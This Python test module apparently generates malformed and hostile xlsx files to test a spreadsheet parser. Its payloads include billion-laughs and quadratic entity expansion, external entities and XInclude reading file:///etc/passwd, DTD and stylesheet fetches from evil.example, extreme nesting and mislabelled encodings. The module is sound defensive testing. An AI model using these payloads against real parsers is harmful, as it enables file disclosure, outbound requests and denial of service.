"""XML that expands, reaches out, nests without end, lies about its encoding, or is none."""

from __future__ import annotations

import codecs
import re
from collections.abc import Callable, Iterator

from tests.hostile.material import (
    COUNTS,
    NS,
    RELATIONS,
    STRINGS,
    STYLES,
    TYPES,
    WORKBOOK,
    Hostile,
    changed,
    sheet_part,
    swap,
)

_DOCTYPE, _BROKEN = "V-14.doctype", "V-11.broken"
_PARTS = {"sheet": sheet_part("NHAN_SU"), "workbook": WORKBOOK, "strings": STRINGS, "styles": STYLES,
          "relations": RELATIONS, "types": TYPES, "unused": "customXml/item1.xml"}  # fmt: skip
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a0 "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
)
_DECLARATIONS = {
    "laughs": _LAUGHS + b"]>",
    "quadratic": b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 50_000 + b'">]>',
    "file": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "web": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    "parameter": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    "bare": b"<!DOCTYPE x>",
}
_ROOT = re.compile(rb"<(?=[A-Za-z])")


def _before_root(text: bytes) -> Callable[[bytes], bytes]:
    return lambda data: _ROOT.sub(lambda match: text + match[0], data or b"<x/>", count=1)


def _doctypes() -> Iterator[Hostile]:
    for where, part in _PARTS.items():
        for word, text in _DECLARATIONS.items():
            content = text + b"<x>&a;</x>" if where == "unused" else _before_root(text)
            yield Hostile(f"xml-doctype-{word}-{where}.xlsx", changed({part: content}), _DOCTYPE)
    late = _before_root(b"<!-- " + b"x" * 200_000 + b" -->" + _DECLARATIONS["bare"])
    yield Hostile("xml-doctype-after-long-comment.xlsx", changed({STYLES: late}), _DOCTYPE)
    inside = swap(b"<sheetData>", b"<!DOCTYPE x><sheetData>")
    yield Hostile("xml-doctype-inside.xlsx", changed({_PARTS["sheet"]: inside}), COUNTS)


def _encoded(name: str, mark: bytes = b"", declared: str | None = None) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        body = re.sub(r"^<\?xml.*?\?>\s*", "", data.decode())
        text = f'<?xml version="1.0" encoding="{declared or name}"?>{body}'
        return mark + text.encode(name, "xmlcharrefreplace")

    return change


#: Encoding of the sheet: change, outcome.
_ENCODINGS = {
    "utf8-mark": (_encoded("utf-8", codecs.BOM_UTF8), COUNTS),
    "utf16": (_encoded("utf-16"), _BROKEN),
    "utf16-le": (_encoded("utf-16-le", codecs.BOM_UTF16_LE, "utf-16"), _BROKEN),
    "utf16-be": (_encoded("utf-16-be", codecs.BOM_UTF16_BE, "utf-16"), _BROKEN),
    "utf16-without-mark": (_encoded("utf-16-le", b"", "utf-16"), _BROKEN),
    "utf16-said-to-be-utf8": (_encoded("utf-16-le", codecs.BOM_UTF16_LE, "utf-8"), _BROKEN),
    "utf8-said-to-be-utf16": (_encoded("utf-8", b"", "utf-16"), COUNTS),
    "utf32": (_encoded("utf-32"), _BROKEN),
    "utf7": (_encoded("utf-7"), COUNTS),
    "latin1": (_encoded("iso-8859-1"), _BROKEN),
    "ascii": (_encoded("us-ascii"), COUNTS),
    "ebcdic": (_encoded("cp037"), _BROKEN),
    "gb18030": (_encoded("gb18030"), _BROKEN),
    "windows-1258": (_encoded("ascii", b"", "windows-1258"), COUNTS),
    "unknown": (_encoded("utf-8", b"", "khong-co"), COUNTS),
    "empty-name": (lambda data: b'<?xml version="1.0" encoding=""?>' + data.partition(b"?>")[2], COUNTS),
    "bad-bytes": (swap(b"<sheetData>", b"<!-- \xff\xfe\xc0\x80 --><sheetData>"), _BROKEN),
    "half-a-letter": (swap(b"<sheetData>", b"<!-- \xe1\xbb --><sheetData>"), _BROKEN),
    "version-11": (lambda data: data.replace(b'version="1.0"', b'version="1.1"', 1), COUNTS),
    "space-before": (lambda data: b" \n" + data, COUNTS),
    "two-marks": (lambda data: codecs.BOM_UTF8 * 2 + data, _BROKEN),
}


def _encodings() -> Iterator[Hostile]:
    for name, (change, expected) in _ENCODINGS.items():
        yield Hostile(f"xml-encoding-{name}.xlsx", changed({_PARTS["sheet"]: change}), expected)


def _shapes() -> Iterator[Hostile]:
    """Well-formed or not, but nothing that Excel would write."""
    before = b"<sheetData>"
    deep = b"<x>" * 200_000 + b"</x>" * 200_000
    attributes = b" ".join(b'a%d="1"' % n for n in range(100_000))
    inserts = {
        "deep": (deep, COUNTS),
        "deep-unclosed": (b"<x>" * 200_000, COUNTS),
        "huge-attribute": (b'<x a="' + b"x" * 5_000_000 + b'"/>', COUNTS),
        "many-attributes": (b"<x " + attributes + b"/>", COUNTS),
        "long-name": (b"<" + b"x" * 2_000_000 + b"/>", COUNTS),
        "twice-an-attribute": (b'<x a="1" a="2"/>', COUNTS),
        "cdata": (b"<x><![CDATA[<c r='XFD1048576'><v>1</v></c>]]></x>", COUNTS),
        "comment-with-rows": (b"<!--<sheetData><row r='1'/></sheetData>-->", COUNTS),
        "instruction": (b'<?xml-stylesheet href="http://evil.example/x.xsl"?>', COUNTS),
        "include": (b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>', COUNTS),
        "unknown-entity": (b"<x>&khong;</x>", COUNTS),
        "nul": (b"<x>\0</x>", COUNTS),
        "control": (b"<x>\x0b</x>", COUNTS),
        "nul-by-number": (b"<x>&#0;</x>", COUNTS),
        "surrogate-by-number": (b"<x>&#xD800;</x>", COUNTS),
        "huge-number": (b"<x>&#99999999999999999999;</x>", COUNTS),
        "unknown-prefix": (b"<q:x/>", COUNTS),
        "alternate-content": (
            b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            b"<mc:Choice><sheetData/></mc:Choice></mc:AlternateContent>",
            COUNTS,
        ),
    }
    for name, (text, expected) in inserts.items():
        yield Hostile(f"xml-{name}.xlsx", changed({_PARTS["sheet"]: swap(before, text + before)}), expected)
    whole = {
        "html": (b"<html><body>404</body></html>", COUNTS),
        "json": (b'{"a": 1}', _BROKEN),
        "binary": (bytes(range(256)) * 40, _BROKEN),
        "only-root": (b"<worksheet " + NS + b"/>", COUNTS),
        "only-declaration": (b'<?xml version="1.0"?>', _BROKEN),
        "two-roots": (b"<worksheet><sheetData/></worksheet><worksheet/>", COUNTS),
        "two-sheets-of-data": (b"<worksheet " + NS + b"><sheetData/><sheetData/></worksheet>", COUNTS),
    }
    for name, (data, expected) in whole.items():
        yield Hostile(f"xml-sheet-is-{name}.xlsx", changed({_PARTS["sheet"]: data}), expected)
    for where in ("sheet", "workbook", "strings", "styles", "relations"):
        cut = changed({_PARTS[where]: lambda data: data[: len(data) // 2]})
        yield Hostile(f"xml-cut-{where}.xlsx", cut, _BROKEN)


def files() -> Iterator[Hostile]:
    """All of this module."""
    for family in (_doctypes, _encodings, _shapes):
        yield from family()
